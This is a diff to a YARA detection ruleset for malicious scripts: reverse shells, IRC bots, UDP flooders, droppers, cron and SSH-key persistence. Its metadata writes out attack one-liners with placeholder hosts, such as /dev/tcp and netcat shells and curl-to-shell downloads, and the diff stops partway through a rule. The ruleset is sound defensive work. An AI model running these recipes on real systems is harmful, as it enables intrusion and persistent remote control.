@@ -128,6 +128,7 @@ rule bot_revshell_dev_tcp : bot
         description = "Shell wired to a TCP/UDP connection through bash's /dev/tcp pseudo-device"
         severity = "critical"
         technique = "bash -i >& /dev/tcp/H/P 0>&1; exec N<>/dev/tcp/H/P with sh <&N or a read loop on N"
+        seen = "pre"
     strings:
         // stdin of the shell duplicated from the connection (0>&1, 0<&1)
         $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
@@ -157,6 +158,7 @@ rule bot_revshell_netcat_pipe : bot
         description = "Shell served over netcat/telnet/openssl: nc -e /bin/sh, or a shell piped to and from the connection"
         severity = "critical"
         technique = "nc -e/-c sh; mkfifo/mknod pipe: cat F | sh -i | nc H P > F; nc H P | sh; telnet H P | sh | telnet H P2"
+        seen = "pre"
     strings:
         $e1 = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
         $e2 = /\b(nc|ncat|netcat|nc\.traditional)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?\$\{?SHELL\b/
@@ -178,6 +180,7 @@ rule bot_revshell_socat : bot
         description = "socat joining a TCP/TLS connection to a shell (connect-back or bind)"
         severity = "critical"
         technique = "socat tcp:H:P exec:'bash -li',pty,stderr | socat TCP-LISTEN:P,fork EXEC:/bin/sh"
+        seen = "pre"
     strings:
         $x = /\bsocat\s[^\n]{0,200}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
         $t = /\bsocat\s[^\n]{0,300}\b(tcp|tcp4|tcp6|tcp-connect|tcp4-connect|tcp-listen|tcp4-listen|openssl|openssl-connect|openssl-listen|ssl|udp|udp-connect)[:-]/ nocase
@@ -191,6 +194,7 @@ rule bot_revshell_gawk_inet : bot
         description = "gawk network coprocess that reads commands from a connection and runs them"
         severity = "high"
         technique = "awk 'BEGIN{s=\"/inet/tcp/0/H/P\"; while(...) { s |& getline c; while ((c |& getline) > 0) print |& s }}'"
+        seen = "pre"
     strings:
         $i = /\/inet[46]?\/(tcp|udp)\/[0-9]{1,5}\/[^\/\s"']{1,100}\/[0-9]{1,5}/
         $co = "|&" ascii
@@ -205,6 +209,7 @@ rule bot_revshell_fd_handoff : bot
         description = "Shell started on a socket's descriptor (sh -i <&3 >&3 2>&3) in a script that opens a socket"
         severity = "critical"
         technique = "php -r fsockopen + exec(\"/bin/sh -i <&3 >&3 2>&3\"), ruby TCPSocket + exec sprintf(\"/bin/sh -i <&%d >&%d\")"
+        seen = "pre"
     strings:
         $h = /\b(ba|z|k|da)?sh (-i )?0?<\s{0,2}&\s{0,2}([0-9]{1,4}|%d|%s|\$\w{1,20}|#\{\w{1,20}\}|\{\w{0,20}\}|["']\s{0,2}[+.])[^\n]{0,40}>\s{0,2}&\s{0,2}([0-9]{1,4}|%d|%s|\$\w{1,20}|#\{\w{1,20}\}|\{\w{0,20}\}|["']\s{0,2}[+.])/
         $s1 = "fsockopen" ascii
@@ -226,6 +231,7 @@ rule bot_revshell_perl : bot
         description = "Perl connect-back/bind shell: a socket attached to STDIN/STDOUT and a shell run, or commands read from the socket and their output sent back"
         severity = "critical"
         technique = "socket()/IO::Socket::INET + connect/accept + open(STDIN,\">&S\")/dup2/fdopen + exec /bin/sh; while(<$s>){print $s `$_`}"
+        seen = "pre"
     strings:
         $sk1 = /\bsocket\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}(&?PF_INET6?|&?AF_INET6?|2)\b/
         $sk2 = /IO::Socket::(INET6?|IP|SSL)\s{0,4}->\s{0,2}new\b/
@@ -284,6 +290,7 @@ rule bot_revshell_python : bot
         description = "Python connect-back/bind shell: socket duplicated onto stdio and a shell spawned, or commands received, run and sent back"
         severity = "critical"
         technique = "socket.socket + connect/accept + os.dup2(s.fileno(),N) + pty.spawn/subprocess sh; recv -> subprocess/os.popen -> send"
+        seen = "pre"
     strings:
         $sk1 = /\bsocket\.socket\s{0,2}\(/
         $sk2 = /\bsocket\s{0,2}\(\s{0,2}(socket\.)?AF_INET6?\b/
@@ -333,6 +340,7 @@ rule bot_revshell_interpreter_oneliner : bot
         description = "Ruby/PHP/Lua one-liner that connects out and runs a shell on the connection"
         severity = "critical"
         technique = "ruby -rsocket -e 'TCPSocket...exec sh'; php -r '$s=fsockopen(...);exec(\"/bin/sh -i <&3 >&3\")'; lua -e socket + io.popen"
+        seen = "pre"
     strings:
         $rb = /\bruby\s[^\n]{0,20}-rsocket\b[^\n]{0,400}\b(exec|spawn|system|popen|IO\.popen)\b/
         $php = /\bphp[0-9.]{0,4}\s{1,4}-r\s{1,4}['"][^\n]{0,200}\b(fsockopen|stream_socket_client|socket_create)\s{0,2}\([^\n]{0,300}\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
@@ -347,6 +355,7 @@ rule bot_revshell_node : bot
         description = "Node.js connect-back/bind shell: a net socket piped to and from a spawned shell"
         severity = "critical"
         technique = "require('net') + require('child_process').spawn('/bin/sh') + socket.pipe(sh.stdin), sh.stdout.pipe(socket)"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $r1 = /(^|\n)[^\n`]{0,100}require\s{0,2}\(\s{0,2}['"]net['"]\s{0,2}\)/
         $r2 = /(^|\n)[^\n`]{0,100}require\s{0,2}\(\s{0,2}['"]child_process['"]\s{0,2}\)/
@@ -420,6 +429,7 @@ rule bot_decode_eval_script : obfuscation bot
         description = "Perl/Python code evaluating decoded or decompressed data (eval unpack/decode_base64, exec b64decode/zlib/marshal/chr-join)"
         severity = "high"
         technique = "eval unpack u => q{...}; eval pack 'H*', ...; exec(zlib.decompress(...)); exec(''.join(map(chr, [...]))); exec(bytes.fromhex(...))"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $p1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?(decode_base64|unpack\s{0,4}\(?\s{0,4}["']?(u|H\*|m0?|B\*)["']?\s{0,4}(,|=>)|pack\s{0,4}\(?\s{0,4}["']?[HB]\*["']?\s{0,4}(,|=>)|uncompress\s{0,2}\(|Compress::Zlib::uncompress)/
         $p2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(base64\.(b64decode|b32decode|b16decode|decodebytes|decodestring|a85decode)|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|binascii\.(unhexlify|a2b_base64)|lzma\.decompress|bz2\.decompress|gzip\.decompress|__import__\s{0,2}\(\s{0,2}['"](base64|zlib|marshal|codecs|binascii)['"])/
@@ -465,6 +475,7 @@ rule bot_php_back_connect : bot
         description = "PHP back-connect shell: socket opened and a shell bound to it"
         severity = "critical"
         technique = "fsockopen/socket_create + proc_open/popen of /bin/sh"
+        seen = "pre"
     strings:
         $s1 = "fsockopen(" ascii
         $s2 = "socket_create(" ascii
@@ -500,6 +511,7 @@ rule bot_backdoor_recipe_in_doc : bot
         description = "Documentation or web asset quoting a reverse-shell recipe (not a script)"
         severity = "medium"
         technique = "reverse-shell one-liners (/dev/tcp, nc -e, socat exec) in Markdown/HTML/JS/text"
+        seen = "pre"
     strings:
         $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
         $a2 = /\b(ba|z|k|da)?sh -i\s{0,4}[12]?\s{0,2}[<>]\s{0,2}&\s{0,4}\/dev\/(tcp|udp)\//
@@ -549,6 +561,7 @@ rule bot_irc_script : bot
         description = "IRC bot: speaks IRC over a raw socket (NICK/USER/JOIN, PING/PONG, PRIVMSG) and runs commands or attacks it is sent"
         severity = "critical"
         technique = "IRC control loop (C&C over IRC) with command dispatch to a shell, a flood or a download"
+        seen = "pre"
     strings:
         // a command built from what arrived (a variable), not a fixed one
         $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s{0,4}\(?\s{0,4}(["'][^"'\n]{0,40})?\$/
@@ -581,6 +594,7 @@ rule bot_irc_raw_bot : bot
         description = "IRC bot over a raw socket that detaches and hides itself or crawls the web for targets"
         severity = "high"
         technique = "IRC protocol client + fork/setsid/$0 rewrite/ignored SIGHUP, or + LWP/HTTP requests (scanner bot)"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $h1 = /\bfork\s{0,2}(\(\s{0,2}\))?\s{0,4}(;|\)|\|\||and|or)/
         $h2 = /\bsetsid\b/
@@ -625,6 +639,7 @@ rule bot_smtp_spam_loop_script : bot mailer
         description = "Script sending mail to every address of a list (SMTP library, raw SMTP or sendmail inside a loop over a list file or argv)"
         severity = "high"
         technique = "a whole message sent per list entry: sendmail(%m) / MIME::Lite / smtplib .sendmail / | sendmail, or MAIL FROM then RCPT TO, inside while(<LIST>) / for x in open(f) / while read"
+        seen = "pre"
     strings:
         // a whole message sent by one call
         $w1 = /\bsendmail\s{0,4}\(\s{0,4}%/
@@ -735,6 +750,7 @@ rule bot_perl_flooder_scanner : bot
         description = "Perl/Python DDoS flooder or mass scanner: packets sent in an endless or timed loop to random or sweeping ports"
         severity = "high"
         technique = "UDP/TCP/HTTP flood or port-range scanner script"
+        seen = "pre"
     strings:
         $f1 = /\b(udp|tcp|syn|http|icmp|ack)\s{0,2}_?flood/ nocase
         $f5 = /\bport\s{0,2}_?scan/ nocase
@@ -767,6 +783,7 @@ rule bot_socks_proxy_script : bot
         description = "Script running its own SOCKS proxy server (listens, accepts, answers the SOCKS handshake, relays)"
         severity = "medium"
         technique = "Perl/Python SOCKS4/5 server: listen + accept + version byte 4/5 handshake + fork/threads relay"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $l1 = /Listen\s{0,4}=>|\blisten\s{0,2}\(/
         $a1 = /->\s{0,2}accept\b|\baccept\s{0,2}\(|\.accept\s{0,2}\(\s{0,2}\)/
@@ -788,6 +805,7 @@ rule bot_sqli_scanner_script : hacktool
         description = "SQL injection tool: an HTTP client sending UNION SELECT / information_schema probes to target URLs"
         severity = "medium"
         technique = "LWP/requests/urllib loop over targets or dorks with injected UNION SELECT, concat(0x..), information_schema"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $h1 = /LWP::UserAgent|HTTP::Request|LWP::Simple|WWW::Mechanize|HTTP::Tiny/
         $h2 = /\brequests\.(get|post)\s{0,2}\(|urllib(2|\.request)?\.urlopen\s{0,2}\(/
@@ -806,6 +824,7 @@ rule bot_process_masquerade : bot
         description = "Script renames its own process to look like a system daemon and detaches"
         severity = "high"
         technique = "$0 / setproctitle / prctl(PR_SET_NAME) process-name masquerading (fake httpd/sshd/crond/kworker)"
+        seen = "pre"
     strings:
         $p1 = /\$0\s{0,4}=\s{0,4}["']?\$?[\w\[\]\/ .:-]{0,40}["']?\s{0,4};/
         $p2 = /\bsetproctitle\s{0,2}\(/
@@ -928,6 +947,7 @@ rule bot_fetch_pipe_interpreter : bot
         description = "Downloads code and runs it without saving it (fetch piped to a shell or interpreter, or eval'd) from a plain-HTTP, bare-IP or unchecked source"
         severity = "high"
         technique = "curl -s http://IP/x | sh; wget -qO- URL | perl; sh -c \"$(curl URL)\"; eval \"$(wget -O- URL)\"; bash <(curl URL)"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $p1 = /\b(curl|wget|fetch|lwp-request|lwp-download|busybox\s{1,4}wget)\s[^\n|;&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n|;&]{0,200}\|\s{0,4}(sudo\s{1,4}|exec\s{1,4}|nohup\s{1,4})?(\/usr)?(\/local)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3}|ruby)\b/
         $p2 = /\b(sh|bash|zsh|ksh|dash|perl|python[0-9.]{0,4}) (-c|-e) ["']?\$\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
@@ -957,6 +977,7 @@ rule bot_fetch_then_exec : bot
         description = "Downloads a file, then makes it executable or runs it (dropper), from a suspicious source or into a temp dir"
         severity = "high"
         technique = "wget/curl/fetch URL -O F; chmod +x F; ./F | cd /tmp; wget URL/bot.txt; perl bot.txt"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         // suspicious source: download, chmod +x, run it; or an interpreter on it
         $dc1 = /\b(wget|curl|fetch|lwp-download|tftp|ftpget)\s[^\n;|&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n]{0,300}(;|&&|\n)[^\n]{0,100}\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\s[^\n]{0,200}(;|&&|\|\||\n)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\.\/|TMP)[\w.\/-]{1,80}/
@@ -974,6 +995,7 @@ rule bot_fetch_exec_perl : bot
         description = "Perl script that downloads code and evals it, or saves a download and runs it"
         severity = "high"
         technique = "eval(get(URL)); getstore(URL, F) + chmod/system(F); $ua->get(URL)->content eval'd"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $e1 = /\beval\s{0,4}[({]?\s{0,4}(LWP::Simple::)?get\s{0,4}\(\s{0,4}['"$]/
         $e2 = /\beval\s{0,4}[({]?\s{0,4}\$\w{1,30}\s{0,4}->\s{0,2}(get|request)\s{0,2}\([^)\n]{0,200}\)\s{0,4}->\s{0,2}(decoded_)?content/
@@ -995,6 +1017,7 @@ rule bot_fetch_exec_python : bot
         description = "Python script that downloads code and execs it, or saves a download, marks it executable and runs it"
         severity = "high"
         technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $e1 = /\bexec\s{0,2}\(\s{0,2}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
         $e2 = /\bexec\s{0,2}\(\s{0,2}requests\.get\s{0,2}\([^\n]{0,200}\)\s{0,2}\.(text|content)/
@@ -1004,9 +1027,11 @@ rule bot_fetch_exec_python : bot
         $g3 = /\brequests\.get\s{0,2}\(/
         $c1 = /\bos\.chmod\s{0,2}\([^)\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|\b(493|511|365)\b)/
         $x1 = /\b(os\.system|subprocess\.\w{1,16}|os\.exec\w{1,3}|os\.popen|os\.spawn\w{1,3})\s{0,2}\(/
+        // a download checked against a digest is a deployment step
+        $ck = /\bhashlib\.(sha(1|224|256|384|512)|blake2[bs]|new)\s{0,2}\(/
     condition:
         filesize < 2MB and hs_lang_python and not hs_doc_file and
-        (any of ($e*) or (any of ($g*) and $c1 and $x1))
+        (any of ($e*) or (any of ($g*) and $c1 and $x1 and not $ck))
 }
 
 /* ---- payloads behind an encoding ---------------------------------------- */
@@ -1017,6 +1042,7 @@ rule bot_decode_pipe_shell : bot obfuscation
         description = "Encoded text decoded and run by a shell (echo BLOB | base64 -d | sh, eval \"$(... | base64 -d)\")"
         severity = "high"
         technique = "base64 -d / xxd -r -p / openssl base64 -d / printf '\\x..' piped to sh or eval'd"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $b1 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|]{0,40}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
         $b2 = /\|\s{0,4}base64\s{1,4}(-d|--decode|-D|-di)\s{0,4}\)/
@@ -1038,6 +1064,7 @@ rule bot_encoded_backdoor_payload : bot obfuscation
         description = "Base64-wrapped Perl/Python/shell/PHP payload run by eval/exec whose decoded text is a reverse shell, bot or spam loop"
         severity = "critical"
         technique = "eval(decode_base64('...')) / exec(base64.b64decode('...')) / echo ... | base64 -d | sh, payload: socket + dup + shell, IRC, SMTP"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $w1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?decode_base64\s{0,4}\(/
         $w2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(base64\.b64decode|base64\.decodebytes|base64\.decodestring|codecs\.decode|__import__\s{0,2}\(\s{0,2}['"]base64['"]\s{0,2}\)\s{0,2}\.\s{0,2}b64decode|compile\s{0,2}\(\s{0,2}base64\.b64decode)/
@@ -1075,4 +1102,246 @@ rule bot_encoded_backdoor_payload : bot obfuscation
             (not hs_doc_file and any of ($w*))
             or ($wn and not extension matches /^(md|markdown|rst|txt|html?|json|xml|po|pot|yml|yaml)$/)
         )
+}
+
+/* ---- round 2 (issue 12): written from the techniques, seen = "none" ------
+ * The rules below were written from technique descriptions and the invented
+ * variants of tests/eval/botgen.py only, without opening the corpus bots or
+ * the blind held-out set. docs/script-rules.md ("Round 2") explains each. */
+
+/* An IRC client that runs what the channel orders: registration (NICK and
+ * USER), a read loop on the connection, and after a PRIVMSG is parsed a
+ * command run with a non-literal argument (shell_exec(trim($m[3])),
+ * system(implode(...)), subprocess.getoutput(" ".join(a))), a datagram
+ * flood or a download to a file. bot_irc_script wants the argument to start
+ * with a variable and the attack words; this one reads the order in the code:
+ * PRIVMSG first, then the action. A notifier that runs `git log` before it
+ * posts has its command ahead of any PRIVMSG and a literal argument. */
+rule bot_irc_command_dispatch : bot
+{
+    meta:
+        description = "IRC bot: registers, reads the connection in a loop and, after parsing a PRIVMSG, runs a command built from it, floods or downloads"
+        severity = "high"
+        technique = "fsockopen(irc) + NICK/USER + while(fgets) + preg_match('/PRIVMSG .* :!(\\w+) (.*)/') -> shell_exec(trim($m[2])) / fsockopen('udp://'.$t) / file_put_contents($f, file_get_contents($u)); the same in Perl/Python"
+        seen = "none"
+    strings:
+        $nick = /(\\[nr]|\b)NICK\s{1,4}["'$.%{\w]/
+        $user = /(\\[nr]|\b)USER\s{1,4}["'$.%{\w]/
+        $pm = "PRIVMSG" ascii
+        // the connection read line by line
+        $rd = /\b(fgets|socket_read|stream_get_line|socket_recv|readline)\s{0,2}\(|\.(recv|readline|makefile)\s{0,2}\(|->\s{0,2}getline\b/
+        $rd2 = /\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?<\s{0,2}\$?\w{1,30}\s{0,2}>/
+        // a command run on something that is not a literal (or a literal joined to more)
+        $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s{0,4}\(\s{0,4}(["'][^"'\n]{0,60}["']\s{0,4}[.,]\s{0,4})?[^"'\s)\[]/
+        // Perl and PHP interpolate variables in double quotes: system("$c 2>&1"), system $c
+        $x5 = /\b(system|exec|shell_exec|passthru|popen)\s{0,4}\(?\s{0,4}"[^"\n]{0,40}\$\w|\b(system|exec)\s{1,4}\$\w/
+        $x2 = "`$" ascii
+        $x3 = /\b(os\.(popen|system)|subprocess\.(getoutput|getstatusoutput|check_output|Popen|run|call)|commands\.getoutput)\s{0,2}\(\s{0,2}(["'][^"'\n]{0,60}["']\s{0,4}[+%.]\s{0,4})?[^"'\s)\[]/
+        $x4 = /\bqx\s{0,2}[\(\{\/|!][^\n]{0,40}\$\w/
+        // a datagram flood or a download ordered from the channel
+        $a1 = /udp:\/\/["'$.{]/
+        $a2 = "SOCK_DGRAM" ascii
+        $a3 = /\bfile_put_contents\s{0,2}\([^;\n]{1,80}file_get_contents\s{0,2}\(\s{0,2}\$/
+        $a4 = /\b(urlretrieve|getstore)\s{0,2}\(\s{0,2}[a-zA-Z_$]/
+        $a5 = /\bcopy\s{0,2}\(\s{0,2}\$\w{1,30}(\[[^\]]{1,20}\])?\s{0,2},\s{0,2}\$/
+        // or the order dispatched to a handler by name ('cmd_' . $m[2]), the
+        // handler running a command somewhere in the file
+        $dy = /\bcall_user_func(_array)?\s{0,2}\(\s{0,2}(array\s{0,2}\(|\[)?\s{0,2}\$this\s{0,2},\s{0,2}['"]\w{1,20}['"]\s{0,2}\.|\$this\s{0,2}->\s{0,2}\{\s{0,2}['"]\w{1,20}['"]\s{0,2}\.|\bgetattr\s{0,2}\(\s{0,2}self\s{0,2},\s{0,2}['"]\w{1,20}['"]\s{0,2}\+/
+    condition:
+        filesize < 2MB and not hs_doc_file and hs_raw_transport and $nick and $user and ($rd or $rd2) and (
+            for any i in (1..#pm) : ( for any of ($x*, $a*) : ( $ in (@pm[i] .. @pm[i] + 1500) ) )
+            or (any of ($x*, $a*) and for any i in (1..#pm) : ( $dy in (@pm[i] .. @pm[i] + 1500) ) )
+        )
+}
+
+/* A UDP flood: a datagram socket (udp://, SOCK_DGRAM, SOL_UDP, Proto udp)
+ * written to in a loop that runs to a deadline (time() + the duration) with
+ * the target from the command line or the request, and no pause in the loop.
+ * A metrics agent sends one datagram every few seconds to a fixed collector
+ * (it sleeps); a health check sends one query per server (no deadline). */
+rule bot_udp_flood_loop : bot
+{
+    meta:
+        description = "UDP flooder: datagrams sent in a loop until a deadline to a target taken from argv or the request"
+        severity = "high"
+        technique = "$end = time() + $_GET['time']; while (time() < $end) fwrite(fsockopen('udp://'.$h, rand()), $pk); Perl SOCK_DGRAM send until time + $secs; Python sendto until time.time() + int(argv[3])"
+        seen = "none"
+    strings:
+        $d1 = /udp:\/\/["'$.{]/
+        $d2 = "SOCK_DGRAM" ascii
+        $d3 = "SOL_UDP" ascii
+        $d4 = /Proto\s{0,4}=>\s{0,4}['"]udp['"]/
+        $d5 = /getprotobyname\s{0,2}\(\s{0,2}['"]udp['"]/
+        // the target or the duration from outside
+        $in = /\$_(GET|POST|REQUEST|COOKIE)\b|\$argv\s{0,2}\[|\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bshift\s{0,2}(;|\|\||\)|or\b)|\binput\s{0,2}\(\s{0,2}['"]|\bargparse\b/
+        // the deadline: now + a duration, or now - start compared with one
+        $dl1 = /\btime\s{0,2}(\(\s{0,2}\))?\s{0,4}\+\s{0,4}[$(a-zA-Z0-9]/
+        $dl2 = /\btime\s{0,2}\(\s{0,2}\)\s{0,4}-\s{0,4}\$?[a-zA-Z_]\w{0,30}\s{0,4}<\s{0,4}[$(a-zA-Z0-9]/
+        $lp = /\b(while|for)\b\s{0,2}[(\w]/
+        $sd = /\b(fwrite|fputs|socket_sendto|sendto|send)\s{0,2}\(|->\s{0,2}send\s{0,2}\(|\.send(to)?\s{0,2}\(/
+        $sl = /\b(u?sleep|time\.sleep|select)\s{0,2}\(|\bsleep\s{1,4}[0-9$]/
+    condition:
+        filesize < 1MB and not hs_doc_file and any of ($d*) and $in and (
+            for any i in (1..#dl1) : ( for any j in (1..#lp) : ( @lp[j] > @dl1[i] and @lp[j] < @dl1[i] + 400 and
+                for any k in (1..#sd) : ( @sd[k] > @lp[j] and @sd[k] < @lp[j] + 500 and
+                    not for any s in (1..#sl) : ( @sl[s] > @lp[j] and @sl[s] < @sd[k] + 300 ) ) ) )
+            or for any j in (1..#dl2) : (
+                for any k in (1..#sd) : ( @sd[k] > @dl2[j] and @sd[k] < @dl2[j] + 500 and
+                    not for any s in (1..#sl) : ( @sl[s] > @dl2[j] and @sl[s] < @sd[k] + 300 ) ) )
+        )
+}
+
+/* An SSH key planted for the way back in: a key appended to (or written
+ * into) authorized_keys from code, where the key is a literal in the script,
+ * comes from the request or from a download, or the file is locked with
+ * chattr. ssh-copy-id-like tools append a key file the admin names; an
+ * auditor only reads the file. */
+rule bot_sshkey_persistence : bot
+{
+    meta:
+        description = "Script appending an SSH public key (embedded, from the request or downloaded) to authorized_keys, or locking the file with chattr"
+        severity = "high"
+        technique = "echo 'ssh-rsa AAAA...' >> ~/.ssh/authorized_keys; chattr +i; file_put_contents($h.'/.ssh/authorized_keys', KEY, FILE_APPEND); open(..., 'a').write(KEY); curl URL >> authorized_keys"
+        seen = "none"
+    strings:
+        $ak = "authorized_keys" ascii
+        // appended or written
+        $ap1 = /(>>|\btee\s{1,4}(-a|--append)\s)\s{0,4}["']?[^\n;|&]{0,100}authorized_keys/
+        $ap2 = /authorized_keys[^\n]{0,1000}\bFILE_APPEND\b/
+        $ap3 = /authorized_keys['"]?\s{0,4}\)?\s{0,4},\s{0,4}["'](a|a\+|ab|w|wb|w\+|>>|>)["']/
+        $ap4 = /\bopen\s{0,2}\(\s{0,2}(my\s{1,4})?\$?\w{0,30}\s{0,2},\s{0,4}["'](>>|\+>>|>)["']\s{0,4},\s{0,4}\$\w{1,30}/
+        $ap5 = /\bopen\s{0,2}\(\s{0,2}[^\n,]{1,100},\s{0,4}["'](a|ab|a\+)["']\s{0,2}\)/
+        // the key: embedded, from the request, downloaded, or the file locked
+        $k1 = /(ssh-(rsa|ed25519|dss)|ecdsa-sha2-nistp(256|384|521)|sk-ssh-ed25519@openssh\.com) AAAA[0-9A-Za-z+\/]{40}/
+        $k2 = /\$_(GET|POST|REQUEST|COOKIE)\s{0,2}\[/
+        $k3 = /\b(curl|wget)\s[^\n|;]{1,200}(>>|\|\s{0,4}tee\s{1,4}-a)\s{0,4}["']?[^\n;|&]{0,100}authorized_keys/
+        $k4 = /\bchattr\s{1,4}[-+][ia]{1,2}\s[^\n;|&]{0,100}authorized_keys/
+        // a key downloaded in Python, PHP or Perl; the file locked with chattr from a list
+        $k5 = /\burlopen\s{0,2}\(|\brequests\.get\s{0,2}\(|\bfile_get_contents\s{0,2}\(\s{0,2}['"](https?|ftp):|\bLWP::Simple\b|\bHTTP::Tiny\b/
+        $k6 = /['"]chattr['"]\s{0,2},\s{0,2}['"][-+][ia]/
+    condition:
+        filesize < 1MB and not hs_doc_file and $ak and
+        (any of ($ap1, $ap2, $ap3) or
+         for any i in (1..#ak) : ( for any of ($ap4, $ap5) : ( $ in (@ak[i] - 40 .. @ak[i] + 400) ) )) and
+        any of ($k*)
+}
+
+/* A scheduled line that restarts a downloader or a hidden program, written
+ * to a crontab (crontab -, crontab FILE, /etc/cron.d, the spool, from any
+ * language). The schedule, and in the same line what it runs: a fetch piped
+ * to a shell, a temp dir, a dot path. A package's cron.d file running its
+ * own program, a backup line and a health-check ping (curl without a shell)
+ * do not match. */
+rule bot_cron_install_payload : bot
+{
+    meta:
+        description = "Script installing a crontab or cron.d line that runs a fetched, temp-dir or hidden program"
+        severity = "high"
+        technique = "crontab -l | { cat; echo '*/5 * * * * curl URL | sh'; } | crontab -; echo '@reboot /tmp/.x' >> /var/spool/cron/crontabs/u; cat > /etc/cron.d/x; subprocess.run(['crontab','-'], input=...)"
+        seen = "none"
+    strings:
+        // the crontab it goes into
+        $c = /\bcrontab\s{1,4}(-u\s{1,4}(\$\([^)\n]{1,30}\)|[\w$.{}-]{1,32})\s{1,4})?(-[\s"')\n;&|]|-$|["']?[\/$~][^\s-]|[\w.\/-]{1,60}\s{0,2}(["';)&|\n]|$))|['"]crontab['"]\s{0,2},\s{0,2}['"]-['"]|\/etc\/cron\.(d|hourly|daily)\/|\/var\/spool\/cron\/|\/etc\/crontab\b/
+        // a schedule ...
+        $sc1 = "@reboot" ascii
+        $sc2 = "@hourly" ascii
+        $sc3 = "* * *" ascii
+        $sc4 = /\*\/[0-9]{1,2} [0-9*]/
+        // ... running a fetch into a shell, something in a temp dir or a dot path
+        $pl = /\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}(\s|["';&>)|]|$)|\b(curl|wget|fetch|lwp-download|GET)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b|\b(curl|wget|fetch|lwp-download)\s[^\n]{1,200}(;|&&)\s{0,4}((ba|da)?sh\s|perl\s|python[0-9.]{0,4}\s|php\s|chmod\s|\.\/|~\/|\$HOME\/)|\bfile_get_contents\s{0,2}\(\s{0,2}\\?['"](https?|ftp):/
+    condition:
+        filesize < 1MB and not hs_doc_file and
+        for any of ($sc*) : ( for any i in (1..#) : (
+            $pl in (@[i] .. @[i] + 250) and $c in (@[i] - 600 .. @[i] + 600) ) )
+}
+
+/* Download and run, in any language and over several lines: a fetch, a temp
+ * dir or /dev/shm, the file made executable and started in the background
+ * (nohup, setsid, &, Popen, output to /dev/null), and no checksum or
+ * signature check in the script. bot_fetch_then_exec reads the shell
+ * one-liners; this one the steps wherever they are within a few lines. A
+ * deployment script that verifies a checksum before it installs does not
+ * match. */
+rule bot_dropper_tmp_exec : bot
+{
+    meta:
+        description = "Dropper: downloads a program into a temp dir, makes it executable and starts it detached (any language), without verifying it"
+        severity = "high"
+        technique = "F=/tmp/.x; wget -q $U -O $F; chmod +x $F; nohup $F &; rm -f $F | file_put_contents('/tmp/x', file_get_contents(URL)); chmod(..., 0755); exec('... &') | urlopen + os.chmod + Popen"
+        seen = "none"
+    strings:
